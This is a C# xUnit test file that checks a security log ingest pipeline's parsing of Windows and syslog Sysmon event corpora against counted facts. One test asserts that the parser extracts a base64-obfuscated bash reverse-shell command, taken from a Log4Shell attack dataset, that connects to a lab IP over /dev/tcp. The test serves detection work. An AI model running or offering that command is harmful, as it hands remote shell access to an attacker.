using System.Globalization;
using System.Text.Json;
using Anomaly.Pipeline.Ingest;
using Shouldly;
using Xunit;

namespace Anomaly.Tests.Ingest;

/// <summary>Windows events of others in XML, Sentinel's JSON and syslog, read against independently counted facts.</summary>
public class WindowsFormatsCorpusTests
{
    public static TheoryData<string> Files => new(Facts.Keys.Order(StringComparer.Ordinal));

    [Theory]
    [MemberData(nameof(Files))]
    public void Agrees_with_the_facts(string file)
    {
        var fact = Facts[file];
        var sink = new RecordingSink();
        LogFileReader.Read(TestPaths.Corpus("windows", file), new LogReadOptions(), sink).Format.ShouldBe(fact.Format);
        sink.Stats.Records.ShouldBe(fact.Records);
        sink.Stats.Rejected.ShouldBe(0);
        sink.Flows.Count.ShouldBe(fact.Flows);
        sink.Processes.Count.ShouldBe(fact.Processes);
        sink.Files.Count.ShouldBe(fact.Files);
        sink.Stats.RecordsByStream.GetValueOrDefault("sysmon:22").ShouldBe(fact.Dns);
        var commands = sink.Processes.Select(p => (p["host"], p["image"], p["command_line"])).ToList();
        foreach (string[] command in fact.Commands) commands.ShouldContain((command[0], command[1], command[2]));
        if (fact.StrictProcesses == fact.Processes) commands.Distinct().Count().ShouldBe(fact.Commands.Length);
        if (fact.SysmonFirst is null) return;
        Text(sink.Stats.FirstTime).ShouldBe(fact.SysmonFirst);
        Text(sink.Stats.LastTime).ShouldBe(fact.SysmonLast);
    }

    [Fact]
    public void Ill_formed_messages_give_their_events()
    {
        var sink = new RecordingSink();
        LogFileReader.Read(TestPaths.Corpus("windows", "otrf-log4shell", "part1-syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json.gz"), new LogReadOptions(), sink);
        // A strict reader does not see the decoding of the payload.
        sink.Processes.Select(p => p["command_line"]).ShouldContain("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}");
        sink.Processes.ShouldAllBe(p => p["host"] == "UBUNTU5" && p["sensor"] == "sysmon");
    }

    [Fact]
    public void No_file_is_without_facts()
        => Directory.EnumerateFiles(TestPaths.Corpus("windows"), "*", SearchOption.AllDirectories).Select(f => Path.GetRelativePath(TestPaths.Corpus("windows"), f))
            .Where(f => f.Contains('/') && !f.StartsWith("otrf/", StringComparison.Ordinal)).ShouldBe(Facts.Keys, ignoreOrder: true);

    private static string Text(long micros)
        => DateTime.UnixEpoch.AddTicks(micros * 10).ToString("yyyy-MM-ddTHH:mm:ss.ffffffZ", CultureInfo.InvariantCulture);

    private static IReadOnlyDictionary<string, Fact> Facts { get; } = JsonSerializer
        .Deserialize<Fact[]>(File.ReadAllBytes(TestPaths.Corpus("windows", "formats-facts.json")), new JsonSerializerOptions { PropertyNamingPolicy = JsonNamingPolicy.SnakeCaseLower })!
        .ToDictionary(f => f.File);

    private sealed record Fact(string File, string Format, long Records, int Flows, int Processes, int Files, long Dns, int StrictProcesses, string[][] Commands, string? SysmonFirst, string? SysmonLast);
}
